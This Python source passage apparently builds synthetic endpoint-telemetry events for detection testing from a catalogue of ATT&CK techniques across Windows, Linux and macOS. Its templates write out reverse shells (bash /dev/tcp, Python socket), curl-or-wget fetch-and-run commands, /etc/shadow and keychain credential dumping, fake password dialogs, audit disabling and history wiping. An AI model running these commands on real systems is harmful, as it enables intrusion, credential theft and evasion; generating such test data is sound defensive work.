            "lure": (
                "Invoice_{{n}}.pdf.exe",
                "Scan_{{n}}.jpg.scr",
                "Contract_signed.docx.exe",
                "Salary_review_2025.xlsx.exe",
            )
        },
    ),
    Technique(
        "T1560.001",
        "Archive Collected Data: Archive via Utility",
        "Collection",
        "Win",
        "rar_documents",
        (
            Proc(
                "rar",
                "C:\\ProgramData\\{{rar}}",
                '"C:\\ProgramData\\{{rar}}" a -hp{{pw}} -m5 -r -inul C:\\ProgramData\\{{arc}} '
                '"{{home}}\\Documents\\*.docx" "{{home}}\\Documents\\*.xlsx"',
                "cmd.exe",
            ),
            Write("rar", "C:\\ProgramData\\{{arc}}"),
        ),
        choices={
            "rar": ("rar.exe", "rr.exe", "WinRAR.exe"),
            "arc": ("{{hex4}}.rar", "backup.rar", "docs.dat"),
            "pw": ("Xx{{hex4}}", "infected", "2025!!"),
        },
    ),
    Technique(
        "T1505.003",
        "Server Software Component: Web Shell",
        "Persistence",
        "Win",
        "iis_web_shell",
        (
            Proc(
                "w3wp",
                _SYS + "inetsrv\\w3wp.exe",
                'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "DefaultAppPool" -v "v4.0" -l '
                '"webengine4.dll" -a \\\\.\\pipe\\iisipm{{hex8}} -h '
                '"C:\\inetpub\\temp\\apppools\\DefaultAppPool\\DefaultAppPool.config" -w "" -m 0',
                "svchost.exe",
                NETWORK_SERVICE,
                simple="SyntheticProcessRollup2",
            ),
            Proc(
                "cmd",
                CMD,
                'cmd.exe /c cd /d "C:\\inetpub\\wwwroot\\aspnet_client"&{{recon}}&echo [S]&cd&echo [E]',
                "w3wp",
                NETWORK_SERVICE,
            ),
            Proc("tool", "{{recon_image}}", "{{recon}}", "cmd", NETWORK_SERVICE),
        ),
        choices={
            "probe": (
                {"recon": "whoami", "recon_image": _SYS + "whoami.exe"},
                {"recon": "ipconfig /all", "recon_image": _SYS + "ipconfig.exe"},
                {"recon": "systeminfo", "recon_image": _SYS + "systeminfo.exe"},
            )
        },
    ),
)

LINUX: tuple[Technique, ...] = (
    Technique(
        "T1546.004",
        "Event Triggered Execution: Unix Shell Configuration Modification",
        "Persistence",
        "Lin",
        "bashrc_persistence",
        (
            Proc(
                "sh",
                BASH,
                "/bin/bash -c echo 'nohup {{lin_bin}} >/dev/null 2>&1 &' >> {{home}}/.bashrc",
                "{{lin_parent}}",
            ),
            Write("sh", "{{home}}/.bashrc"),
        ),
        alternatives=(
            (
                Proc("tee", "/usr/bin/tee", "tee -a /etc/profile.d/{{profile}}.sh", "bash", ADMIN),
                Write("tee", "/etc/profile.d/{{profile}}.sh"),
            ),
        ),
        choices={
            "lin_bin": (
                "/tmp/.ICE-unix/.{{hex4}}",
                "{{home}}/.local/share/.cache/dbus-daemon",
                "/dev/shm/.x/kthreadd",
            ),
            "lin_parent": ("sshd", "bash"),
            "profile": ("bash_completion_ext", "z-update", "locale-fix"),
        },
    ),
    Technique(
        "T1053.003",
        "Scheduled Task/Job: Cron",
        "Persistence",
        "Lin",
        "crontab_persistence",
        (
            Proc(
                "sh",
                BASH,
                '/bin/bash -c (crontab -l 2>/dev/null; echo "{{cron_job}}") | crontab -',
                "{{lin_parent}}",
            ),
            Proc("list", "/usr/bin/crontab", "crontab -l", "sh"),
            Proc("install", "/usr/bin/crontab", "crontab -", "sh"),
            Write("install", "/var/spool/cron/crontabs/{{user}}"),
        ),
        choices={
            "lin_parent": ("sshd", "bash", "java"),
            "cron_job": (
                "*/10 * * * * /tmp/.{{hex4}}/kworker >/dev/null 2>&1",
                "@reboot sleep 60 && {{home}}/.local/bin/.update",
                "*/5 * * * * wget -q -O- http://{{domain}}/cr.sh | sh",
            ),
        },
    ),
    Technique(
        "T1059.004",
        "Command and Scripting Interpreter: Unix Shell",
        "Execution",
        "Lin",
        "curl_pipe_shell",
        (
            Proc(
                "sh",
                DASH,
                "/bin/sh -c curl -fsSL https://{{domain}}/{{script}} | {{shell}}",
                "{{exploited}}",
                WEB,
            ),
            Proc("curl", CURL, "curl -fsSL https://{{domain}}/{{script}}", "sh", WEB),
            Dns("curl"),
            Connect("curl"),
            Proc("run", "{{shell_image}}", "{{shell}}", "sh", WEB),
        ),
        choices={
            "exploited": _LIN_EXPLOITED,
            "script": ("install.sh", "i.sh", "x86_64/setup", "s"),
            "interp": (
                {"shell": "bash", "shell_image": BASH},
                {"shell": "sh", "shell_image": DASH},
            ),
        },
    ),
    Technique(
        "T1140",
        "Deobfuscate/Decode Files or Information",
        "Defense Evasion",
        "Lin",
        "base64_pipe_bash",
        (
            Proc(
                "sh",
                BASH,
                "/bin/bash -c echo {{script_b64}} | base64 -d | bash",
                "{{exploited}}",
                WEB,
            ),
            Proc("b64", "/usr/bin/base64", "base64 -d", "sh", WEB),
            Proc("bash", BASH, "bash", "sh", WEB),
            Connect("bash", "{{rport}}"),
        ),
        choices={"exploited": _LIN_EXPLOITED, "rport": ("4444", "9001", "443", "8443")},
        script="bash -i >& /dev/tcp/{{c2}}/{{rport}} 0>&1",
    ),
    Technique(
        "T1136.001",
        "Create Account: Local Account",
        "Persistence",
        "Lin",
        "useradd",
        (
            Proc("sudo", "/usr/bin/sudo", "sudo useradd -m -s /bin/bash -G sudo {{acct}}", "bash"),
            Proc(
                "useradd",
                "/usr/sbin/useradd",
                "useradd -m -s /bin/bash -G sudo {{acct}}",
                "sudo",
                ADMIN,
            ),
            AccountCreated("useradd", "{{acct}}"),
        ),
        choices={"acct": ("sysupdate", "backup2", "mysqld", "systemd-netd")},
    ),
    Technique(
        "T1098.004",
        "Account Manipulation: SSH Authorized Keys",
        "Persistence",
        "Lin",
        "ssh_authorized_keys",
        _authorized_keys("{{home}}", USER),
        alternatives=(_authorized_keys("/root", ADMIN),),
        choices={
            "lin_parent": ("sshd", "bash", "python3"),
            "key_comment": ("root@kali", "user@localhost", "x"),
        },
    ),
    Technique(
        "T1222.002",
        "File and Directory Permissions Modification: Linux and Mac",
        "Defense Evasion",
        "Lin",
        "chmod_tmp_exec",
        (
            Proc("chmod", "/usr/bin/chmod", "chmod {{mode}} /tmp/{{tmpbin}}", "bash"),
            Proc("run", "/tmp/{{tmpbin}}", "/tmp/{{tmpbin}}", "bash"),
        ),
        choices={"mode": ("+x", "777", "755", "u+x"), "tmpbin": _LIN_BINARIES},
    ),
    Technique(
        "T1070.003",
        "Indicator Removal: Clear Command History",
        "Defense Evasion",
        "Lin",
        "clear_bash_history",
        (
            Proc("rm", "/usr/bin/rm", "rm -f {{home}}/.bash_history", "bash"),
            Proc("ln", "/usr/bin/ln", "ln -sf /dev/null {{home}}/.bash_history", "bash"),
        ),
        alternatives=(
            (
                Proc(
                    "sh",
                    BASH,
                    "/bin/bash -c cat /dev/null > {{home}}/.bash_history && history -c && unset HISTFILE",
                    "sshd",
                ),
                Write("sh", "{{home}}/.bash_history"),
            ),
        ),
    ),
    Technique(
        "T1105",
        "Ingress Tool Transfer",
        "Command and Control",
        "Lin",
        "wget_to_tmp",
        (
            Proc(
                "wget",
                "/usr/bin/wget",
                "wget -q http://{{domain}}/{{remote_bin}} -O /tmp/{{tmpbin}}",
                "{{lin_parent}}",
            ),
            Dns("wget"),
            Connect("wget", "80"),
            Write("wget", "/tmp/{{tmpbin}}", "NewExecutableWritten"),
        ),
        choices={
            "lin_parent": ("bash", "sh"),
            "remote_bin": ("xmrig", "kinsing", "bot.x86_64", "k"),
            "tmpbin": _LIN_BINARIES,
        },
    ),
    Technique(
        "T1496",
        "Resource Hijacking",
        "Impact",
        "Lin",
        "xmrig_miner",
        (
            Proc(
                "miner",
                "/tmp/{{miner}}",
                "/tmp/{{miner}} -o stratum+tcp://{{pool}}:{{pool_port}} -u {{wallet}} -p x --donate-level 1 -B",
                "bash",
            ),
            Dns("miner", "{{pool}}"),
            Connect("miner", "{{pool_port}}"),
        ),
        choices={
            "miner": ("kswapd0", ".x/xmrig", "kdevtmpfsi"),
            "pool": (
                "pool.minexmr.example.net",
                "xmr-eu1.nanopool.example.org",
                "gulf.moneroocean.example.com",
            ),
            "pool_port": ("3333", "10128", "14444"),
        },
    ),
    Technique(
        "T1543.002",
        "Create or Modify System Process: Systemd Service",
        "Persistence",
        "Lin",
        "systemd_service",
        (
            Proc("tee", "/usr/bin/tee", "tee /etc/systemd/system/{{unit}}.service", "bash", ADMIN),
            Write("tee", "/etc/systemd/system/{{unit}}.service"),
            Proc("reload", "/usr/bin/systemctl", "systemctl daemon-reload", "bash", ADMIN),
            Proc(
                "enable",
                "/usr/bin/systemctl",
                "systemctl enable --now {{unit}}.service",
                "bash",
                ADMIN,
            ),
            Proc("svc", "{{unit_bin}}", "{{unit_bin}}", "systemd", ADMIN),
        ),
        choices={
            "unit": ("dbus-broker-helper", "systemd-updated", "network-monitor", "kworkerd"),
            "unit_bin": ("/usr/local/bin/{{unit}}", "/opt/.{{unit}}/{{unit}}"),
        },
    ),
    Technique(
        "T1548.001",
        "Abuse Elevation Control Mechanism: Setuid and Setgid",
        "Privilege Escalation",
        "Lin",
        "setuid_shell_copy",
        (
            Proc("cp", "/usr/bin/cp", "cp /bin/bash /tmp/.{{suid}}", "bash", ADMIN),
            Proc("chmod", "/usr/bin/chmod", "chmod {{suid_mode}} /tmp/.{{suid}}", "bash", ADMIN),
            Proc("run", "/tmp/.{{suid}}", "/tmp/.{{suid}} -p", "bash"),
        ),
        choices={"suid": ("sh", "bd", "{{hex4}}"), "suid_mode": ("4755", "u+s", "+s")},
    ),
    Technique(
        "T1003.008",
        "OS Credential Dumping: /etc/passwd and /etc/shadow",
        "Credential Access",
        "Lin",
        "shadow_copy",
        (
            Proc("cat", "/usr/bin/cat", "cat /etc/shadow", "bash", ADMIN),
            Proc("cp", "/usr/bin/cp", "cp /etc/shadow /dev/shm/.{{hex4}}", "bash", ADMIN),
            Write("cp", "/dev/shm/.{{hex4}}"),
        ),
    ),
    Technique(
        "T1059.006",
        "Command and Scripting Interpreter: Python",
        "Execution",
        "Lin",
        "python_reverse_shell",
        (
            Proc(
                "py",
                "/usr/bin/python3.12",
                "python3 -c import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
                's.connect(("{{c2}}",{{rport}}));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);'
                'os.dup2(s.fileno(),2);subprocess.call(["/bin/sh","-i"])',
                "{{exploited}}",
                WEB,
            ),
            Connect("py", "{{rport}}"),
            Proc("sh", DASH, "/bin/sh -i", "py", WEB),
        ),
        choices={
            "exploited": ("java", "node", "php-fpm8.3", "bash"),
            "rport": ("4444", "9001", "1337"),
        },
    ),
    Technique(
        "T1082",
        "System Information Discovery",
        "Discovery",
        "Lin",
        "linux_host_survey",
        (
            Proc(
                "sh",
                DASH,
                "/bin/sh -c uname -a; cat /etc/os-release; id; nproc",
                "{{exploited}}",
                WEB,
            ),
            Proc("uname", "/usr/bin/uname", "uname -a", "sh", WEB),
            Proc("cat", "/usr/bin/cat", "cat /etc/os-release", "sh", WEB),
            Proc("id", "/usr/bin/id", "id", "sh", WEB),
            Proc("nproc", "/usr/bin/nproc", "nproc", "sh", WEB),
        ),
        choices={"exploited": _LIN_EXPLOITED},
    ),
    Technique(
        "T1562.012",
        "Impair Defenses: Disable or Modify Linux Audit System",
        "Defense Evasion",
        "Lin",
        "auditd_stop",
        (
            Proc("stop", "/usr/bin/systemctl", "systemctl stop auditd", "bash", ADMIN),
            Proc("auditctl", "/usr/sbin/auditctl", "auditctl -e 0", "bash", ADMIN),
        ),
        alternatives=(
            (
                Proc("stop", "/usr/sbin/service", "service auditd stop", "bash", ADMIN),
                Proc("auditctl", "/usr/sbin/auditctl", "auditctl -D", "bash", ADMIN),
            ),
        ),
    ),
)

MACOS: tuple[Technique, ...] = (
    Technique(
        "T1543.001",
        "Create or Modify System Process: Launch Agent",
        "Persistence",
        "Mac",
        "launch_agent_plist",
        (
            Proc(
                "curl",
                CURL,
                "curl -fsSL -o {{home}}/Library/LaunchAgents/{{label}}.plist https://{{domain}}/{{label}}.plist",
                "zsh",
            ),
            Dns("curl"),
            Connect("curl"),
            Write("curl", "{{home}}/Library/LaunchAgents/{{label}}.plist"),
            Proc(
                "load",
                "/bin/launchctl",
                "launchctl load -w {{home}}/Library/LaunchAgents/{{label}}.plist",
                "zsh",
            ),
            Proc(
                "agent",
                "{{home}}/Library/Application Support/.{{label}}/{{agent}}",
                "{{agent}}",
                "launchd",
            ),
        ),
        choices={
            "label": (
                "com.apple.updates.helper",
                "com.google.keystone.xpcservice",
                "com.adobe.acc.helper",
            ),
            "agent": ("updater", "GoogleSoftwareUpdateAgent", ".helper"),
        },
    ),
    Technique(
        "T1056.002",
        "Input Capture: GUI Input Capture",
        "Credential Access",
        "Mac",
        "osascript_password_prompt",
        (
            Proc("sh", "/bin/bash", "/bin/bash {{home}}/Library/.{{hex4}}/run.sh", "launchd"),
            Proc(
                "osa",
                "/usr/bin/osascript",
                'osascript -e display dialog "{{prompt}}" default answer "" with title "{{title}}" '
                "with icon caution with hidden answer",
                "sh",
            ),
        ),
        choices={
            "prompt": (
                "macOS wants to make changes. Enter your password to allow this.",
                "System Preferences needs your password to update security settings.",
                "Software Update requires that you type your password to apply changes.",
            ),
            "title": ("System Preferences", "Software Update", "Keychain Access"),
        },
    ),
    Technique(
        "T1555.001",
        "Credentials from Password Stores: Keychain",
        "Credential Access",
        "Mac",
        "keychain_secrets",
        (Proc("sec", "/usr/bin/security", "security {{keychain_op}}", "{{mac_parent}}"),),
        choices={
            "keychain_op": (
                'find-generic-password -wa "Chrome"',
                'find-generic-password -ws "Chrome Safe Storage"',
                'find-generic-password -ws "Slack Safe Storage"',
                "dump-keychain -d {{home}}/Library/Keychains/login.keychain-db",
            ),
            "mac_parent": ("zsh", "bash", "sh"),
        },
    ),
    Technique(
        "T1553.001",
        "Subvert Trust Controls: Gatekeeper Bypass",
        "Defense Evasion",
        "Mac",
        "quarantine_xattr_removal",
        (
            Proc("xattr", "/usr/bin/xattr", "{{xattr}}", "zsh"),
            Proc("run", "{{run_image}}", "{{run_image}}", "zsh"),
        ),
        choices={
            "app": _MAC_APPS,
            "bin": _MAC_BINARIES,
            "target": (
                {
                    "xattr": "xattr -d com.apple.quarantine /tmp/{{bin}}",
                    "run_image": "/tmp/{{bin}}",
                },
                {
                    "xattr": "xattr -rd com.apple.quarantine /Applications/{{app}}.app",
                    "run_image": "/Applications/{{app}}.app/Contents/MacOS/{{app}}",
                },
                {
                    "xattr": "xattr -d -r com.apple.quarantine {{home}}/Downloads/{{app}}.app",
                    "run_image": "{{home}}/Downloads/{{app}}.app/Contents/MacOS/{{app}}",
                },
            ),
        },
    ),
    Technique(
        "T1105",
        "Ingress Tool Transfer",
        "Command and Control",
        "Mac",
        "curl_to_tmp",
        (
            Proc(
                "curl",
                CURL,
                "curl -fsSL -o /tmp/{{bin}} https://{{domain}}/{{bin}}",
                "{{mac_parent}}",
            ),
            Dns("curl"),
            Connect("curl"),
            Write("curl", "/tmp/{{bin}}", "NewExecutableWritten"),
            Proc("chmod", "/bin/chmod", "chmod +x /tmp/{{bin}}", "{{mac_parent}}"),
        ),
        choices={"bin": _MAC_BINARIES, "mac_parent": ("zsh", "bash", "sh")},
    ),
    Technique(
        "T1647",
        "Plist File Modification",
        "Defense Evasion",
        "Mac",
        "plutil_info_plist",
        (
            Proc(
                "plutil",
                "/usr/bin/plutil",
                "plutil {{plist_edit}} /Applications/{{app}}.app/Contents/Info.plist",
                "zsh",
            ),
            Write("plutil", "/Applications/{{app}}.app/Contents/Info.plist"),
        ),
        choices={
            "app": _MAC_APPS,
            "plist_edit": (
                "-replace LSUIElement -bool true",
                '-insert LSEnvironment -json {"DYLD_INSERT_LIBRARIES":"{{home}}/Library/.{{hex4}}.dylib"}',
                "-replace LSBackgroundOnly -bool YES",
            ),
        },
    ),
    Technique(
        "T1059.002",
        "Command and Scripting Interpreter: AppleScript",
        "Execution",
        "Mac",
        "osascript_do_shell_script",
        (
            Proc(
                "osa",
                "/usr/bin/osascript",
                'osascript -e do shell script "curl -fsSL https://{{domain}}/{{script}} | sh"',
                "{{mac_parent}}",
            ),
            Proc("sh", "/bin/sh", "sh -c curl -fsSL https://{{domain}}/{{script}} | sh", "osa"),
            Proc("curl", CURL, "curl -fsSL https://{{domain}}/{{script}}", "sh"),
            Dns("curl"),
            Connect("curl"),
        ),
        choices={
            "mac_parent": ("zsh", "Finder", "TradingView"),
            "script": ("m.sh", "install", "u"),
        },
    ),
    Technique(
        "T1497.001",
        "Virtualization/Sandbox Evasion: System Checks",
        "Defense Evasion",
        "Mac",
        "vm_hardware_check",
        (
            Proc(
                "sh",
                "/bin/sh",
                "sh -c system_profiler SPHardwareDataType | grep -i -e virtual -e vmware -e parallels",
                "{{bin}}",
            ),
            Proc("sp", "/usr/sbin/system_profiler", "system_profiler SPHardwareDataType", "sh"),
            Proc("grep", "/usr/bin/grep", "grep -i -e virtual -e vmware -e parallels", "sh"),
            Proc("ioreg", "/usr/sbin/ioreg", "ioreg -rd1 -c IOPlatformExpertDevice", "{{bin}}"),
            Proc("sysctl", "/usr/sbin/sysctl", "sysctl -n hw.model", "{{bin}}"),
        ),
        choices={"bin": _MAC_BINARIES},
    ),
    Technique(
        "T1564.001",
        "Hide Artifacts: Hidden Files and Directories",
        "Defense Evasion",
        "Mac",
        "chflags_hidden",
        (
            Proc("mkdir", "/bin/mkdir", "mkdir -p {{home}}/Library/.{{hidden}}", "{{bin}}"),
            Proc(
                "mv", "/bin/mv", "mv /tmp/{{bin}} {{home}}/Library/.{{hidden}}/.{{bin}}", "{{bin}}"
            ),
            Proc(
                "chflags",
                "/usr/bin/chflags",
                "chflags hidden {{home}}/Library/.{{hidden}}",
                "{{bin}}",
            ),
        ),
        choices={"bin": _MAC_BINARIES, "hidden": ("cache", "{{hex4}}", "CloudDocs")},
    ),
    Technique(
        "T1115",
        "Clipboard Data",
        "Collection",
        "Mac",
        "pbpaste_loop",
        (
            Proc("sh", "/bin/bash", "/bin/bash {{home}}/Library/.{{hex4}}/c.sh", "launchd"),
            Proc("pb1", "/usr/bin/pbpaste", "pbpaste", "sh"),
            Proc("pb2", "/usr/bin/pbpaste", "pbpaste", "sh"),
            Write("sh", "/tmp/.{{hex4}}.txt"),
        ),
    ),
    Technique(
        "T1113",
        "Screen Capture",
        "Collection",
        "Mac",
        "silent_screencapture",
        (
            Proc(
                "shot",
                "/usr/sbin/screencapture",
                "screencapture -x -t jpg /tmp/.{{hex4}}.jpg",
                "{{bin}}",
            ),
            Write("shot", "/tmp/.{{hex4}}.jpg"),
        ),
        choices={"bin": _MAC_BINARIES},
    ),
    Technique(
        "T1070.003",
        "Indicator Removal: Clear Command History",
        "Defense Evasion",
        "Mac",
        "clear_zsh_history",
        (
            Proc("rm", "/bin/rm", "rm -f {{home}}/.zsh_history", "zsh"),
            Proc("ln", "/bin/ln", "ln -sf /dev/null {{home}}/.zsh_history", "zsh"),
        ),
    ),
)

TECHNIQUES: tuple[Technique, ...] = WINDOWS + LINUX + MACOS
"""Every catalogue entry; :func:`technique_events` builds one instance."""

BY_SCENARIO: dict[str, Technique] = {t.scenario: t for t in TECHNIQUES}


# -- building an instance ----------------------------------------------------------

_PLACEHOLDER = re.compile(r"\{\{(\w+)\}\}")
_MAX_NESTING = 4


class _Instance:
    """The state of one instance being built: the event chain, the template
    context and the process events so far, by step key."""

    def __init__(self, tech: Technique, rng: random.Random, host: dict, start_ms: int) -> None:
        self.chain = _Chain(rng, host, start_ms)
        self.win = host["platform"] == "Win"
        self.procs: dict[str, dict[str, Any]] = {}
        self.images: dict[str, str] = {}
        user = host["users"][USER]
        ctx = {
            "home": user["home"],
            "user": user["UserName"],
            "sid": user.get("UserSid", ""),
            "domain": rng.choice(_DOMAINS),
            "c2": _callback_ip(rng),
            "lan": _private_ip(rng),
            "hex4": _hex(rng, 16),
            "hex8": _hex(rng, 32).upper(),
            "n": str(rng.randrange(1000, 99999)),
            "pid": str(4 * rng.randrange(120, 1800)),
            "keyblob": "AAAAC3NzaC1lZDI1NTE5AAAAI"
            + base64.b64encode(rng.getrandbits(256).to_bytes(32, "big")).decode("ascii")[:43],
            "wallet": "4" + "".join(rng.choice(_BASE58) for _ in range(94)),
        }
        self.ctx = ctx
        # Picked values stay templates: they may name values picked after
        # them or the script's encodings; fill() expands them when used.
        for name, options in tech.choices.items():
            picked = options[int(rng.random() * len(options))]
            if isinstance(picked, str):
                ctx[name] = picked
            else:
                ctx.update(picked)
        if tech.script:
            script = self.fill(tech.script)
            ctx["script_ps64"] = _b64_ps(script)
            ctx["script_b64"] = base64.b64encode(script.encode("utf-8")).decode("ascii")

    def fill(self, text: str) -> str:
        """``text`` with its ``{{name}}`` placeholders expanded (values may
        hold placeholders themselves)."""
        for _ in range(_MAX_NESTING):
            if "{{" not in text:
                return text
            text = _PLACEHOLDER.sub(lambda m: self.ctx[m.group(1)], text)
        raise ValueError(f"placeholders nested too deep in {text!r}")

    def pid(self, key: str) -> str:
        return self.procs[key]["TargetProcessId"]

    def emit(self, step: Step) -> dict[str, Any]:
        c = self.chain
        if isinstance(step, Proc):
            parent = self.procs.get(step.parent)
            image = self.fill(step.image)
            ev = c.process(
                image,
                self.fill(step.cmd),
                parent["FileName"] if parent else self.fill(step.parent),
                step.user,
                ppid=parent["TargetProcessId"] if parent else None,
                simple=step.simple,
                integrity=step.integrity,
            )
            ev["SourceProcessId"] = ev["ParentProcessId"]
            if parent and self.win:
                ev["GrandParentBaseFileName"] = parent["ParentBaseFileName"]
            self.procs[step.key] = ev
            self.images[step.key] = image
            return ev
        if isinstance(step, Connect):
            return c.network(
                self.pid(step.proc),
                self.fill(step.remote),
                self.fill(step.port),
                self.images[step.proc],
                simple=step.simple,
            )
        if isinstance(step, Dns):
            proc = self.procs[step.proc]
            return c.dns(
                proc["TargetProcessId"], self.fill(step.domain), proc["FileName"], self.ctx["c2"]
            )
        if isinstance(step, Write):
            return c.file_written(self.pid(step.proc), self.fill(step.path), step.simple)
        return self._other(step)

    def _other(self, step: Step) -> dict[str, Any]:
        c = self.chain
        host = c.host
        if isinstance(step, RegSet):
            proc = self.procs[step.proc]
            ev = c.common(step.simple)
            ev.update(
                {
                    "RegObjectName": self.fill(step.key),
                    "RegValueName": self.fill(step.value),
                    "RegStringValue": self.fill(step.data),
                    "RegType": "1",
                    "RegOperationType": "1",
                    "ContextProcessId": proc["TargetProcessId"],
                    "ContextTimeStamp": _secs(int(ev["timestamp"]) - 1),
                    "AuthenticationId": proc["AuthenticationId"],
                }
            )
            return ev
        if isinstance(step, TaskRegistered):
            proc = self.procs[step.proc]
            ev = c.common("ScheduledTaskRegistered")
            name, command, args = (
                self.fill(step.name),
                self.fill(step.command),
                self.fill(step.arguments),
            )
            author = f"CORP\\{proc['UserName']}"
            ev.update(
                {
                    "TaskName": name,
                    "TaskAuthor": author,
                    "TaskExecCommand": command,
                    "TaskExecArguments": args,
                    "TaskXml": _task_xml(name, author, command, args, step.trigger),
                    "UserName": proc["UserName"],
                    "UserSid": proc["UserSid"],
                    "RpcClientProcessId": proc["TargetProcessId"],
                    "ContextTimeStamp": _secs(int(ev["timestamp"]) - 1),
                }
            )
            return ev
        if isinstance(step, ServiceStart):
            svc = self.procs[step.proc]
            ev = c.common("ServiceStarted")
            ev.update(
                {
                    "ServiceDisplayName": self.fill(step.name),
                    "ImageFileName": svc["ImageFileName"],
                    "CommandLine": svc["CommandLine"],
                    "TargetProcessId": svc["TargetProcessId"],
                    "ContextTimeStamp": _secs(int(ev["timestamp"]) - 1),
                }
            )
            if step.by is not None:
                ev["RpcClientProcessId"] = self.pid(step.by)
            return ev
        if isinstance(step, AccountCreated):
            proc = self.procs[step.proc]
            ev = c.common("UserAccountCreated")
            ev["UserName"] = self.fill(step.name)
            rid = 1001 + int(c.rng.random() * 50)
            if self.win:
                machine = "-".join(str(int(host["aid"][i : i + 8], 16)) for i in (0, 8, 16))
                ev["UserSid"] = f"S-1-5-21-{machine}-{rid}"
                ev["RpcClientProcessId"] = proc["TargetProcessId"]
            else:
                ev["UID"] = str(rid)
                ev["ContextProcessId"] = proc["TargetProcessId"]
            ev["ContextTimeStamp"] = _secs(int(ev["timestamp"]) - 1)
            return ev
        if isinstance(step, Logon):
            user = host["users"][USER]
            ev = c.common("UserLogon")
            ev.update({"UserName": user["UserName"], "LogonType": step.logon_type})
            if self.win:
                ev.update(
                    {
                        "UserSid": user["UserSid"],
                        "LogonDomain": "CORP",
                        "UserPrincipal": f"{user['UserName']}@corp.example.com",
                        "AuthenticationPackage": "Negotiate",
                        "AuthenticationId": str(100000 + int(c.rng.random() * 9000000)),
                    }
                )
            else:
                ev["UID"] = user["UID"]
            ev["RemoteAddressIP4"] = self.fill(step.remote)
            ev["LogonTime"] = _secs(int(ev["timestamp"]) - 2)
            return ev
        raise TypeError(f"unknown step {step!r}")  # pragma: no cover


def _task_xml(name: str, author: str, command: str, args: str, trigger: str) -> str:
    """The task definition as the Task Scheduler stores it (abridged)."""
    when = "<Repetition><Interval>PT30M</Interval></Repetition>" if trigger == "TimeTrigger" else ""
    return (
        '<?xml version="1.0" encoding="UTF-16"?><Task version="1.2" '
        'xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><RegistrationInfo>'
        f"<Author>{xml_escape(author)}</Author><URI>{xml_escape(name)}</URI></RegistrationInfo>"
        f"<Triggers><{trigger}>{when}<Enabled>true</Enabled></{trigger}></Triggers>"
        '<Principals><Principal id="Author"><RunLevel>HighestAvailable</RunLevel></Principal>'
        '</Principals><Actions Context="Author"><Exec>'
        f"<Command>{xml_escape(command)}</Command><Arguments>{xml_escape(args)}</Arguments>"
        "</Exec></Actions></Task>"
    )


def technique_events(
    technique: Technique | str, rng: random.Random, host: dict, *, start_ms: int = START_MS
) -> list[dict]:
    """The events of one instance of ``technique`` (an entry of
    :data:`TECHNIQUES` or its ``scenario`` name) on ``host`` (a dict from
    :func:`make_hosts` of the technique's platform), as dicts in emission
    order; timestamps start just after ``start_ms``."""
    tech = BY_SCENARIO.get(technique) if isinstance(technique, str) else technique
    if tech is None:
        raise ValueError(f"unknown technique scenario {technique!r}")
    if host["platform"] != tech.platform:
        raise ValueError(f"technique {tech.scenario!r} needs a {tech.platform} host")
    inst = _Instance(tech, rng, host, start_ms)
    variants = (tech.steps, *tech.alternatives)
    steps = variants[int(rng.random() * len(variants))] if tech.alternatives else tech.steps
    return [inst.emit(step) for step in steps]
